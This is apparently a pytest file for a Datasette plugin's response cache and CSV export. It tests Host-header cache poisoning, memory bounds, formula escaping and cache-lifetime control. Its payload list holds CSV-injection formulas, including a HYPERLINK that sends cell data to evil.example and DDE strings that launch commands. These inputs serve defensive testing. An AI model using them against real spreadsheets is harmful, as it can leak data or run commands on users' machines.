"""The response cache and what a client may not set through it: another host's links, a flood of
URLs, spreadsheet formulas in CSV answers, the cache lifetime; through Datasette's test client."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import tracemalloc

import httpx
import pytest
from datasette.app import Datasette

from kz_rule_of_law.web.plugin.cache import ResponseCache
from kz_rule_of_law.web.plugin.csvsafe import FormulaEscaper

DB = "kz-rule-of-law"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1,2",
    '-"quoted"',
]
NUMBERS = [-5, -1.5, 2.5e-07]


def fetch(datasette: Datasette, path: str, **headers: str) -> httpx.Response:
    """GET `path` from the site with these request headers."""
    return asyncio.run(datasette.client.get(path, headers=headers))


def sql_literal(value: str) -> str:
    """`value` as an SQL string literal (a carriage return through char(), as it cannot be typed)."""
    return (
        " || ".join(
            "char(13)" if part == "\r" else "'" + part.replace("'", "''") + "'"
            for part in value.replace("\r", "\0\r\0").split("\0")
            if part
        )
        or "''"
    )


# Another host


@pytest.mark.parametrize(
    "path", [f"/{DB}/organizations.json?_size=2", f"/{DB}/project_organizations?_facet=iati_role&_size=2"]
)
def test_a_page_asked_for_another_host_is_never_served_to_others(datasette, path):
    poisoned = fetch(datasette, path, host="evil.example", **{"cache-control": "no-cache"})
    assert poisoned.status_code == 200
    assert "http://evil.example/" in poisoned.text  # Datasette's absolute links follow the Host header
    for _ in range(2):  # the first visitor's answer, then the cached one
        answer = fetch(datasette, path)
        assert answer.status_code == 200
        assert "evil.example" not in answer.text
        assert "http://localhost/" in answer.text
    assert answer.headers["x-kz-cache"] == "hit"


def test_a_page_asked_over_another_scheme_is_kept_apart(datasette):
    path = f"/{DB}/organizations.json?_size=3"
    app = datasette.app()  # one app, one cache

    async def over(scheme: str) -> str:
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app), base_url=f"{scheme}://localhost"
        ) as client:
            return (await client.get(path)).json()["next_url"]

    assert asyncio.run(over("https")).startswith("https://localhost/")
    assert asyncio.run(over("http")).startswith("http://localhost/")


# The bound


async def echo_page(scope, receive, send) -> None:
    """A page that holds its URL once, as a Datasette page with one link to itself would."""
    await send(
        {
            "type": "http.response.start",
            "status": 200,
            "headers": [(b"content-type", b"text/html; charset=utf-8"), (b"cache-control", b"max-age=5")],
        }
    )
    await send({"type": "http.response.body", "body": b"<a href='?%s'>next</a>" % scope["query_string"]})


def flood(cache: ResponseCache, count: int, url_bytes: int) -> None:
    """GET `count` distinct URLs of about `url_bytes` each through `cache` in front of echo_page."""

    async def receive():
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message):
        pass

    async def run():
        for i in range(count):
            query = b"q=%d&pad=%s" % (i, b"x" * url_bytes)
            scope = {
                "type": "http",
                "method": "GET",
                "scheme": "http",
                "path": f"/{DB}/organizations",
                "raw_path": f"/{DB}/organizations".encode(),
                "query_string": query,
                "headers": [(b"host", b"localhost")],
            }
            await cache.serve(scope, receive, send, echo_page)

    asyncio.run(run())


def test_a_flood_of_distinct_urls_holds_no_more_memory_than_the_bound():
    bound = 512 * 1024
    cache = ResponseCache(bound, bound // 8)
    gc.collect()
    tracemalloc.start()
    try:
        flood(cache, 2000, 8000)  # 2000 distinct URLs of 8 KB: 32 times the bound
        gc.collect()
        with_entries = tracemalloc.get_traced_memory()[0]
        kept, counted = len(cache.entries), cache.size
        cache.entries.clear()
        gc.collect()
        held = with_entries - tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()
    assert kept > 10
    assert held <= counted <= bound


# CSV answers


@pytest.mark.parametrize("download", [False, True])
def test_formula_cells_of_an_sql_csv_answer_are_escaped(get, download):
    columns = [f"{sql_literal(value)} AS c{i}" for i, value in enumerate(FORMULAS)]
    numbers = [f"{value!r} AS n{i}" for i, value in enumerate(NUMBERS)]
    sql = f"SELECT {', '.join(columns + numbers)}, '-5' AS text_number, 1 AS \"=HYPERLINK(1)\""
    response = get(f"/{DB}.csv", sql=sql, **({"_dl": "1"} if download else {}))
    assert response.status_code == 200, response.text
    header, row = list(csv.reader(io.StringIO(response.text, newline="")))
    assert header[-1] == "'=HYPERLINK(1)"
    assert row == ["'" + value for value in FORMULAS] + [str(value) for value in NUMBERS] + ["-5", "1"]


def test_a_table_csv_without_formulas_is_datasettes_own(get, csv_rows):
    response = get(f"/{DB}/organizations.csv", _size="max")
    assert response.status_code == 200
    served = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row["organization_id"] for row in served] == sorted(
        row["organization_id"] for row in csv_rows("organizations")
    )
    assert not any(cell.startswith("'") for row in served for cell in row.values())


def test_the_package_downloads_are_served_byte_for_byte(get, root):
    for path in sorted((root / "data").glob("*.csv")):
        response = get(f"/package/data/{path.name}")
        assert response.status_code == 200
        assert response.content == path.read_bytes(), path.name


@pytest.mark.parametrize("cut", [1, 2, 3, 7, 64])
def test_escaping_does_not_depend_on_where_the_stream_is_cut(cut):
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["=h", "b"])
    writer.writerow([*FORMULAS, *NUMBERS, "a,=b", "plain", "-" + "1" * 60, "", "-"])
    data = text.getvalue().encode()
    escaper = FormulaEscaper()
    out = b"".join(escaper.feed(data[i : i + cut]) for i in range(0, len(data), cut)) + escaper.close()
    header, row = list(csv.reader(io.StringIO(out.decode(), newline="")))
    assert header == ["'=h", "b"]
    assert row == (
        ["'" + value for value in FORMULAS]
        + [str(value) for value in NUMBERS]
        + ["a,=b", "plain", "'-" + "1" * 60, "", "'-"]
    )


# Paths through a file, the cache lifetime


def test_a_path_through_a_download_is_404_without_a_traceback_or_the_servers_path(datasette, capfd):
    folder = str(datasette.static_mounts[0][1])
    capfd.readouterr()
    for path in ("/package/data/budgets.csv/x", "/package/data/budgets.csv/x/y.json", "/package/data-dictionary.md/a"):
        response = fetch(datasette, path)
        assert response.status_code == 404, path
        assert folder not in response.text
    out, err = capfd.readouterr()
    assert (out, err) == ("", "")


def test_the_client_cannot_set_the_cache_lifetime(get):
    path = f"/{DB}/projects.json"
    default = get(path).headers["cache-control"]
    assert default == "public, max-age=600"  # the site's lifetime (plugin/http_cache.py), not Datasette's _ttl
    for ttl in ("31536000", "0", "1"):
        assert get(path, _ttl=ttl).headers["cache-control"] == default
    assert get(path + "?%5Fttl=31536000").headers["cache-control"] == default
